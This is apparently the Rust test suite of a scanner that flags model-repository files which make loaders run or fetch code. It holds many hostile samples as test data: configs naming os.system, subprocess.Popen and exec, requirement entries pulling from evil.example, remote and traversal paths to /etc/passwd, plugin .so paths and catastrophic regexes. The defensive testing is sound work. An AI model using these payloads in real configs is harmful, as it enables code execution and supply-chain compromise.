//! What a loader imports, calls, fetches or opens because a document names it, under whatever member; and the ordinary documents that
//! come near.

use holdfast_contract::report::Verdict;
use holdfast_formats::FileInspector;
use holdfast_formats::finding::verdict;

/// The ids that are found, and whether they refuse; the same for every cut.
#[track_caller]
fn found(name: &str, text: &str) -> (Vec<String>, bool) {
    let run = |piece: usize| {
        let mut inspector = FileInspector::new(name);
        for piece in text.as_bytes().chunks(piece) {
            inspector.feed(piece);
        }
        let findings = inspector.finish().findings.into_parts().0;
        let refused = verdict(&findings).0 == Verdict::Refuse;
        let ids: Vec<_> = findings.into_iter().map(|finding| finding.id).collect();
        (ids, refused)
    };
    let whole = run(text.len().max(1));
    for piece in [1, 7] {
        assert_eq!(run(piece), whole, "{piece}: {text}");
    }
    whole
}

/// Each is refused, by this finding.
#[track_caller]
fn refused(id: &str, cases: &[(&str, &str)]) {
    for (name, text) in cases {
        let (ids, refused) = found(name, text);
        assert!(
            refused && ids.iter().any(|found| found == id),
            "{name}: {ids:?}: {text}"
        );
    }
}

/// Each is admitted, with no finding but these.
#[track_caller]
fn admitted(notes: &[&str], cases: &[(&str, &str)]) {
    for (name, text) in cases {
        let (ids, refused) = found(name, text);
        let other = ids
            .iter()
            .find(|id| *id != "HF-DOC-009" && !notes.contains(&id.as_str()));
        assert!(!refused && other.is_none(), "{name}: {ids:?}: {text}");
    }
}

#[test]
fn what_gives_control_is_found_under_any_member() {
    refused(
        "HF-DOC-003",
        &[
            (
                "a.yaml",
                "pipeline:\n  name: subprocess.Popen\n  params:\n    args: [true]\n",
            ),
            ("a.yaml", "model:\n  class: os.system\n"),
            ("a.yaml", "_partial_: true\nfunc: subprocess.call\n"),
            ("a.yaml", "handlers:\n  x:\n    (): subprocess.Popen\n"),
            ("a.yaml", "() : subprocess.Popen\n"),
            ("a.yaml", "a: {b: [1, os.system]}\n"),
            ("a.yaml", "a: \"o\\x73.system\"\n"),
            ("a.yaml", "a: >-\n  os.system\n"),
            ("a.yaml", "a:\n  - 'os.system' # c\n"),
            ("a.yaml", "a: &x os.system\nb: *x\n"),
            ("a.yaml", "a:\tos.system\r"),
            (
                "a.yaml",
                "backbone:\n  [[-1, 1, \"os.system('true')\", [64]],\n   [-1, 1, Conv, [128]]]\n",
            ),
            ("a.yaml", "- [-1, 1, os.system('true'), []]\n"),
            ("a.yaml", "activation: exec(\"import os; os.system('true')\")\n"),
            ("a.yaml", "activation: nn.ReLU() if exec('x') else 0\n"),
            ("a.yaml", "activation: nn.ReLU() if\n  exec('x') else 0\n"),
            ("a.yaml", "activation: \"exec(\n  'x')\"\n"),
            ("a.yaml", "activation: |\n  exec(\n  'x')\n"),
            ("a.yaml", "text: |\n  It's \"odd\ncall: os.system\n"),
            ("a.yaml", "it: 's\nrest: [\ncall: os.system\n"),
            ("a.yaml", "imports:\n- $import os\nrun:\n- $os.system(\"true\")\n"),
            ("a.yaml", "root: $import evil\n"),
            ("a.yaml", "run: \"$subprocess.check_output(['true'])\"\n"),
            (
                "a.json",
                r#"{"model_type": "x", "loss": {"type": "subprocess.Popen"}}"#,
            ),
            (
                "a.json",
                r#"{"model_type": "x", "decoder": {"type": "subprocess.Popen"}}"#,
            ),
            ("a.json", r#"{"model_type": "x", "()": "os.system"}"#),
            ("a.json", r#"{"model_type": "x", "class": "o\u0073.system"}"#),
            ("a.json", r#"{"model_type": "x", "a": [[["builtins.eval"]]]}"#),
            (
                "a.json",
                r#"{"model_type": "x", "imports": ["$import os"], "run": ["$os.system('true')"]}"#,
            ),
            (
                "a.json",
                r#"{"model_type": "x", "act": "__import__('os').system('true')"}"#,
            ),
            (
                "a.json",
                r#"{"model_type": "x", "lc": 1, "type": "constructor", "id": ["os", "system"]}"#,
            ),
        ],
    );
}

#[test]
fn what_is_imported_by_its_name_is_of_the_library_that_imports_it() {
    refused(
        "HF-DOC-003",
        &[
            ("a.yaml", "pipeline:\n  name: evil.Pipeline\n"),
            ("a.yaml", "pipeline: {name: evil.Pipeline}\n"),
            ("a.yaml", "pipeline:\n  ? name\n  : evil.Pipeline\n"),
            ("a.yaml", "preprocessors:\n  audio:\n    name: evil.Pre\n"),
            ("a.yaml", "lr: 0.1\n_instantiator: evil.make\n"),
            (
                "a.json",
                r#"{"model_type": "x", "hparams": {"_instantiator": "evil.make"}}"#,
            ),
            (
                "a.yaml",
                "model:\n  target: ldm.util.get_obj_from_str\n  params: {string: evil.x}\n",
            ),
            ("a.yaml", "model:\n  target: sgm.util.instantiate_from_config\n"),
            ("a.yaml", "model:\n  target: ldm.util.subprocess.Popen\n"),
        ],
    );
    refused(
        "HF-DOC-004",
        &[("a.yaml", "_BASE_: \"https://evil.example/base.yaml\"\n")],
    );
}

#[test]
fn what_only_looks_like_a_call_is_admitted() {
    admitted(
        &[],
        &[
            (
                "a.yaml",
                "version: 3.1.0\npipeline:\n  name: pyannote.audio.pipelines.SpeakerDiarization\n  params:\n    embedding: speechbrain/spkrec-ecapa-voxceleb\n",
            ),
            ("a.yaml", "pipeline:\n  name: pipeline.yaml\n"),
            (
                "a.yaml",
                "_instantiator: lightning.pytorch.cli.instantiate_module\nlr: 0.1\n",
            ),
            (
                "a.yaml",
                "model:\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n",
            ),
            (
                "a.yaml",
                "_BASE_: ./Base-RCNN.yaml\nMODEL:\n  WEIGHTS: detectron2://ImageNetPretrained/MSRA/R-50.pkl\n",
            ),
            (
                "a.yaml",
                "nc: 80\nactivation: nn.LeakyReLU(0.1)\nbackbone:\n  - [-1, 1, Conv, [64, 3, 2]]\n  - [-1, 1, nn.Upsample, [None, 2, 'nearest']]\n",
            ),
            (
                "a.yaml",
                "version: 1\nhandlers:\n  console:\n    class: logging.StreamHandler\n    stream: ext://sys.stdout\n",
            ),
            (
                "a.yaml",
                "output_dir: /home/me/out\ndata: test.jsonl\nmonitor: test.loss\nlog: sys.log\nmode: eval\nmetric: accuracy (eval)\n",
            ),
            (
                "a.yaml",
                "optimizer: torch.optim.AdamW\nloader: torch.utils.data.DataLoader\nprompt: prompts.system\n",
            ),
            (
                "a.yaml",
                "description: |\n  Example:\n  os.system('x')\n  It's \"odd\n\nnote: Call eval(input()) never.\n",
            ),
            (
                "a.yaml",
                "prompt: >\n  Write a program. os.system('x') must\n  not be in it.\n",
            ),
            (
                "a.yaml",
                "note: Some text that\n  os.system('x') runs\nprice: $5 (about 4 euros)\nformula: $f(x)$\nhome: $HOME/models\n",
            ),
            ("a.yaml", "names:\n  0: person\n  1: os.system\n"),
            (
                "CITATION.cff",
                "cff-version: 1.2.0\ntitle: \"Eval: a method (exec)\"\nabstract: >-\n  We call subprocess.Popen(x) and more.\n",
            ),
            (
                "a.json",
                r#"{"model_type": "x", "id2label": {"0": "os.system", "1": "subprocess.Popen"}}"#,
            ),
            (
                "a.json",
                r#"{"model_type": "x", "data": "test.csv", "act": "torch.nn.GELU", "prefix": "import os", "note": "Use os.system('x') to run it."}"#,
            ),
            (
                "a.json",
                r#"{"model_type": "x", "ids": ["os", "system"], "id": ["a", "b"]}"#,
            ),
            (
                "tokenizer.json",
                r#"{"added_tokens": [{"id": 0, "content": "os.system"}], "model": {"type": "BPE", "vocab": {"os.system": 1}, "merges": ["os.system (", ["eval('", "os.system('x')"]]}}"#,
            ),
            (
                "xlm/tokenizer.json",
                r#"{"added_tokens": [], "model": {"type": "Unigram", "vocab": [["os.system", -3.0], ["exec('x')", -4.0]]}}"#,
            ),
            (
                "tekken.json",
                r#"{"vocab": [{"rank": 0, "token_str": "os.system"}, {"rank": 1, "token_str": "eval('a')"}]}"#,
            ),
            ("vocab.json", r#"{"os.system": 0, "exec('x')": 1}"#),
            (
                "trainer_state.json",
                r#"{"log_history": [{"loss": 1.0}], "best_metric": 0.1, "best_model_checkpoint": "/tmp/out/checkpoint-12"}"#,
            ),
        ],
    );
}

#[test]
fn no_number_of_quotes_takes_long() {
    for text in [
        "'a ".repeat(80 << 10),
        "[\"a\" b,".repeat(30 << 10),
        "a: {".repeat(60 << 10),
        "- ".repeat(120 << 10),
        format!("a: ({}", "eval(".repeat(50 << 10)),
        format!("a: (a{}", ".a".repeat(120 << 10)),
        "a: |\n ''\n".repeat(20 << 10),
    ] {
        let mut inspector = FileInspector::new("a.yaml");
        inspector.feed(text.as_bytes());
        inspector.finish();
    }
}

#[test]
fn members_that_name_a_program_or_a_class_are_judged() {
    refused(
        "HF-DOC-003",
        &[
            (
                "config.json",
                r#"{"model_type": "llama", "model_file": "../../tmp/evil.py"}"#,
            ),
            (
                "config.json",
                r#"{"model_type": "llama", "model_file": "custom.PY"}"#,
            ),
            (
                "router_config.json",
                r#"{"types": {"query_0": "evil_module.Evil"}, "structure": {"query": ["query_0"]}}"#,
            ),
            (
                "router_config.json",
                r#"{"types": {"a": "sentence_transformers.models.Pooling", "b": "evil.Evil"}, "structure": {}}"#,
            ),
            (
                "config.json",
                r#"{"types": {"0_A": "evil_module.Evil"}, "structure": {}, "similarity_fn_name": "cosine"}"#,
            ),
            (
                "modular_model_index.json",
                r#"{"_diffusers_version": "0.36.0", "unet": ["evil_module", "Evil", {"repo": "evil/repo", "type_hint": ["diffusers", "X"]}]}"#,
            ),
            (
                "modular_model_index.json",
                r#"{"_diffusers_version": "0.36.0", "unet": [null, null, {"repo": "evil/repo", "type_hint": ["evil_module", "Evil"]}]}"#,
            ),
            (
                "modular_model_index.json",
                r#"{"_diffusers_version": "0.36.0", "unet": ["diffusers", "X", {"type_hint": ["os", "system"]}]}"#,
            ),
            (
                "model_index.json",
                r#"{"_class_name": "P", "_diffusers_version": "1", "unet": ["evil_module", "Evil", null]}"#,
            ),
            (
                "config.json",
                r#"{"model_type": "x", "characters": {"characters_class": "evil.Characters"}}"#,
            ),
            (
                "plans.json",
                r#"{"model_type": "x", "architecture": {"network_class_name": "evil.Net"}}"#,
            ),
            (
                "config.json",
                r#"{"model_type": "x", "worker_cls": "evil.Worker"}"#,
            ),
            (
                "config.json",
                r#"{"model_type": "x", "logits_processors": ["evil.module:Evil"]}"#,
            ),
            (
                "config.json",
                r#"{"model_type": "x", "reasoning_parser_plugin": "/tmp/evil.py"}"#,
            ),
            ("config.json", r#"{"model_type": "x", "tool_class": "tool.Evil"}"#),
            (
                "config.json",
                r#"{"model_type": "x", "model_lib": "/tmp/evil.so"}"#,
            ),
            (
                "tokenizer_config.json",
                r#"{"tokenizer_class": "X", "audio_tokenizer": {"audio_tokenizer_class": "evil.X"}}"#,
            ),
        ],
    );
}

#[test]
fn ordinary_values_of_these_members_are_admitted() {
    admitted(
        &[],
        &[
            (
                "router_config.json",
                r#"{"types": {"query_0_Static": "sentence_transformers.models.StaticEmbedding", "document_0_T": "sentence_transformers.models.Transformer"}, "structure": {"query": ["query_0_Static"], "document": ["document_0_T"]}, "parameters": {"default_route": "document", "allow_empty_key": true}}"#,
            ),
            (
                "modular_model_index.json",
                r#"{"_class_name": "ModularPipeline", "_blocks_class_name": "SequentialPipelineBlocks", "_diffusers_version": "0.36.0", "unet": ["diffusers", "UNet2DConditionModel", {"repo": "some/repo", "subfolder": "unet", "type_hint": ["diffusers", "UNet2DConditionModel"], "variant": "fp16"}], "guider": [null, null, {"repo": null, "type_hint": ["diffusers", "ClassifierFreeGuidance"]}]}"#,
            ),
            (
                "unet/config.json",
                r#"{"_class_name": "UNet2DConditionModel", "_diffusers_version": "0.6.0", "axes": ["height", "width", null], "down_block_types": ["A", "B", "C"]}"#,
            ),
            (
                "config.json",
                r#"{"model": "vits", "temperature": 0.7, "characters": {"characters_class": "TTS.tts.models.vits.VitsCharacters"}}"#,
            ),
            (
                "plans.json",
                r#"{"model_type": "x", "architecture": {"network_class_name": "dynamic_network_architectures.architectures.unet.PlainConvUNet"}}"#,
            ),
            (
                "mlc-chat-config.json",
                r#"{"model_type": "llama", "model_lib": "llama-q4f16_1", "temperature": 0.7, "model_file": "model.safetensors"}"#,
            ),
            (
                "config.json",
                r#"{"model_type": "x", "worker_cls": "auto", "types": {"a": "int"}}"#,
            ),
            (
                "tokenizer_config.json",
                r#"{"tokenizer_class": "X", "audio_tokenizer": {"audio_tokenizer_class": "XcodecModel", "audio_tokenizer_name_or_path": "some/repo"}}"#,
            ),
        ],
    );
}

#[test]
fn names_of_texts_have_nothing_behind_them_that_a_system_runs() {
    for name in [
        "README.hta",
        "readme.desktop",
        "NOTICE.wsf",
        "LICENSE.service",
        "CITATION.ksh",
        "license-x.hta",
        "third_party_x.sh2",
        "README.php5",
        "readme.reg",
        "README.url",
        "README.zh.hta",
        "LICENSE.mit.scr",
        ".gitattributes.hta",
    ] {
        assert_eq!(
            found(name, "Some words.\n"),
            (vec!["HF-FMT-015".to_owned()], true),
            "{name}"
        );
    }
    for name in [
        "README",
        "README.zh.md",
        "README_zh-CN.md",
        "README.zh-cn",
        "README.rst",
        "LICENSE",
        "LICENSE-APACHE",
        "LICENSE.Apache-2.0",
        "LICENSE.MIT",
        "LICENSE-2.0",
        "license_v1.1",
        "COPYING.LESSER",
        "CITATION.bib",
        "NOTICE.txt",
        "THIRD_PARTY_NOTICES",
        "third_party_licenses.txt",
        ".gitignore",
    ] {
        admitted(&[], &[(name, "Some words.\n")]);
    }
}

#[test]
fn a_program_behind_a_comment_is_one() {
    let long = format!("# {}\n\n#\nimport os\nos.system('true')\n", "a".repeat(9000));
    refused(
        "HF-DOC-008",
        &[
            ("notes.txt", "# a note\nimport os\nos.system('true')\n"),
            ("notes.txt", "\n# a\r\n\r\n  # b\r\nfrom os import system\r\n"),
            ("notes.txt", &long),
            ("license", "# note\n\nimport os\n"),
        ],
    );
    admitted(
        &[],
        &[
            ("README.md", "# A model\n\nfrom transformers import AutoModel\n"),
            ("notes.txt", "# A headline\n\nFrom here on we import nothing.\n"),
            ("merges.txt", "#version: 0.2\n@ @\nimport s\n"),
            ("vocab.txt", "#\n@\nimport \n"),
            ("LICENSE", "# License\n\nYou may.\n"),
        ],
    );
}

#[test]
fn lists_of_software_that_lead_elsewhere_are_refused() {
    refused(
        "HF-DOC-014",
        &[
            (
                "requirements.txt",
                "torch\n--extra-index-\\\nurl https\\\n:/\\\n/evil.example/simple\n",
            ),
            ("requirements.txt", "torch\n--extra-index-\\\r\nurl=/srv/x\r\n"),
            ("requirements.txt", "-e./evil\n"),
            ("requirements.txt", "--editable=./evil\n"),
            ("requirements.txt", "--edit ./evil\n"),
            ("requirements.txt", "./evil-1.0-py3-none-any.whl\n"),
            ("requirements.txt", "evil-1.0-py3-none-any.whl\n"),
            ("requirements.txt", "../../evil\n"),
            ("requirements.txt", "/tmp/x.tar.gz ; python_version > '3'\n"),
            ("requirements.txt", "-r ../../x\n"),
            ("requirements.txt", "-c/tmp/x\n"),
            ("requirements.txt", "--requirement=../x.txt\n"),
            ("requirements.txt", "${EVIL}\n"),
            ("requirements.txt", "# a comment \\\n-e./evil\n"),
            ("requirements.txt", "torch # a\u{2028}-e./evil\n"),
            ("requirements.txt", "\\\\host\\share\\x\n"),
            (
                "conda.yaml",
                "dependencies:\n- python=3.10\n- pip:\n  - git+https://evil.example/x.git\n",
            ),
            (
                "environment.yml",
                "dependencies:\n  - pip:\n      - --extra-index-url https://evil.example/simple\n",
            ),
            (
                "environment.yml",
                "dependencies: [python, {pip: [\"-e ./evil\"]}]\n",
            ),
            (
                "conda.yaml",
                "channels: [https://evil.example/chan]\ndependencies: [python]\n",
            ),
            (
                "python_env.yaml",
                "python: \"3.10\"\nbuild_dependencies:\n- pip\ndependencies:\n- x @ https://evil.example/x.whl\n",
            ),
        ],
    );
}

#[test]
fn ordinary_lists_of_software_are_noted() {
    admitted(
        &["HF-DOC-013"],
        &[
            (
                "requirements.txt",
                "torch>=2.0,<3 # see https://example.org\ntransformers[torch]==4.44.0 ; python_version >= \"3.9\"\nruamel.yaml\nzope.interface~=5.0\n-r requirements-base.txt\n-c constraints.txt\n--pre\n--no-binary :all:\n",
            ),
            (
                "requirements.txt",
                "numpy==1.26.4 \\\n    --hash=sha256:aa \\\n    --hash=sha256:bb\n# via\n#   -e ./x\ntorch==2.1.0+cu118\t# https://example.org\n",
            ),
            ("requirements.txt", "# see \\\ntorch\n"),
            (
                "environment.yml",
                "name: x\nchannels:\n  - pytorch\n  - nvidia/label/cuda-12.1.0\n  - conda-forge\n  - https://conda.anaconda.org/conda-forge\ndependencies:\n  - python=3.10=h7a1cb2a_2\n  - nvidia/label/cuda-11.8.0::cuda-nvcc\n  - conda-forge::numpy\n  - pip\n  - pip:\n    - torch==2.1\n    - ruamel.yaml>=0.17\n    - -r requirements.txt\nprefix: /home/me/conda/envs/x\n",
            ),
            (
                "config.yaml",
                "dependencies:\n  pyannote.audio: 4.0.0\nurl: https://example.org\n",
            ),
        ],
    );
}

#[test]
fn patterns_that_take_answers_and_texts_apart_are_judged() {
    refused(
        "HF-DOC-015",
        &[
            (
                "tokenizer_config.json",
                r#"{"tokenizer_class": "X", "response_schema": {"type": "object", "properties": {"a": {"x-regex": "(a+)+$"}}}}"#,
            ),
            (
                "tokenizer_config.json",
                r#"{"tokenizer_class": "X", "response_schema": {"properties": {"a": {"x-regex-iterator": "(a|a)*x"}}}}"#,
            ),
            (
                "tokenizer_config.json",
                r#"{"tokenizer_class": "X", "response_schema": {"x-regex-substitutions": [["(a+)+$", "\\1"]]}}"#,
            ),
            ("tekken.json", r#"{"config": {"pattern": "(a+)+$"}, "vocab": []}"#),
        ],
    );
    admitted(
        &[],
        &[
            (
                "tokenizer_config.json",
                r#"{"tokenizer_class": "X", "response_schema": {"x-regex": "^(?:(?:<think>)?\\s*(?P<thinking>.+?)\\s*</think>)?\\s*(?:<tool_call>(?P<tool_calls>.*?)\\s*</tool_call>)?\\s*(?P<content>.+?)?\\s*$", "properties": {"a": {"x-regex-iterator": "<\\|channel\\|>commentary (to=functions\\..*?<\\|message\\|>.*?)(?:<\\|call\\|>|$)"}, "b": {"x-regex": "<\\|START_THINKING\\|>(.*?)<\\|END_THINKING\\|>"}, "c": {"x-regex-key-value": "<parameter=(?P<key>\\w+)>\\n(?P<value>.*?)\\n</parameter>"}}}}"#,
            ),
            (
                "tekken.json",
                r#"{"config": {"pattern": "[^\\r\\n\\p{L}\\p{N}]?[\\p{Lu}\\p{Lt}\\p{Lm}\\p{Lo}\\p{M}]*[\\p{Ll}\\p{Lm}\\p{Lo}\\p{M}]+|[^\\r\\n\\p{L}\\p{N}]?[\\p{Lu}\\p{Lt}\\p{Lm}\\p{Lo}\\p{M}]+[\\p{Ll}\\p{Lm}\\p{Lo}\\p{M}]*|\\p{N}| ?[^\\s\\p{L}\\p{N}]+[\\r\\n/]*|\\s*[\\r\\n]+|\\s+(?!\\S)|\\s+"}, "vocab": []}"#,
            ),
            (
                "config.json",
                r#"{"model_type": "x", "layers": {"pattern": "(a+)+$"}}"#,
            ),
        ],
    );
}

#[test]
fn files_that_loaders_open_are_of_the_model() {
    refused(
        "HF-DOC-004",
        &[
            (
                "adapter_config.json",
                r#"{"peft_type": "MULTITASK_PROMPT_TUNING", "prompt_tuning_init_state_dict_path": "\\\\host\\share\\x.bin"}"#,
            ),
            (
                "adapter_config.json",
                r#"{"peft_type": "XLORA", "adapters": {"0": "https://evil.example/x"}}"#,
            ),
            (
                "config.json",
                r#"{"model_type": "rag", "index_path": "https://evil.example/idx"}"#,
            ),
            (
                "tokenizer_config.json",
                r#"{"tokenizer_class": "X", "pretrained_vocab_file": "https://evil.example/v.pkl"}"#,
            ),
            (
                "config.json",
                r#"{"model_type": "timm_wrapper", "model_args": {"checkpoint_path": "\\\\host\\share\\x"}}"#,
            ),
            (
                "model.json",
                r#"{"temperature": 1, "weightsManifest": [{"paths": ["../../x"]}]}"#,
            ),
            (
                "model.json",
                r#"{"temperature": 1, "weightsManifest": [{"paths": ["https://evil.example/w.bin"]}]}"#,
            ),
        ],
    );
    refused(
        "HF-DOC-003",
        &[(
            "sentence_bert_config.json",
            r#"{"max_seq_length": 1, "model_args": {"provider_options": {"trt_extra_plugin_lib_paths": "./evil.so"}}}"#,
        )],
    );
    for (name, text) in [
        (
            "adapter_config.json",
            r#"{"peft_type": "MULTITASK_PROMPT_TUNING", "prompt_tuning_init_state_dict_path": "/tmp/x.bin"}"#,
        ),
        (
            "adapter_config.json",
            r#"{"peft_type": "XLORA", "adapters": {"0": "../../evil"}}"#,
        ),
        (
            "preprocessor_config.json",
            r#"{"image_processor_type": "X", "class_info_file": "../../../etc/passwd"}"#,
        ),
        (
            "config.json",
            r#"{"model_type": "x", "dataset_path": "\\\\host\\share"}"#,
        ),
        (
            "config.json",
            r#"{"model_type": "x", "some_file": "file:///etc/passwd"}"#,
        ),
    ] {
        let (ids, refused) = found(name, text);
        assert!(
            !refused && ids.iter().any(|id| id == "HF-DOC-012"),
            "{ids:?}: {text}"
        );
    }
    admitted(
        &[],
        &[
            (
                "config.json",
                r#"{"model_type": "rag", "index_path": null, "passages_path": "passages", "output_dir": "/home/me/out", "_name_or_path": "\\\\nas\\me\\model", "checkpoint_path": "s3://bucket/x"}"#,
            ),
            (
                "adapter_config.json",
                r#"{"peft_type": "XLORA", "adapters": {"0": "somebody/adapter", "1": "./adapters/1"}}"#,
            ),
            (
                "preprocessor_config.json",
                r#"{"image_processor_type": "X", "class_info_file": "coco_panoptic.json"}"#,
            ),
            (
                "config.json",
                r#"{"architecture": "resnet18", "pretrained_cfg": {"url": "https://example.org/x.pth", "tag": "a1"}}"#,
            ),
            (
                "model.json",
                r#"{"temperature": 1, "weightsManifest": [{"paths": ["group1-shard1of2.bin", "group1-shard2of2.bin"]}]}"#,
            ),
        ],
    );
}
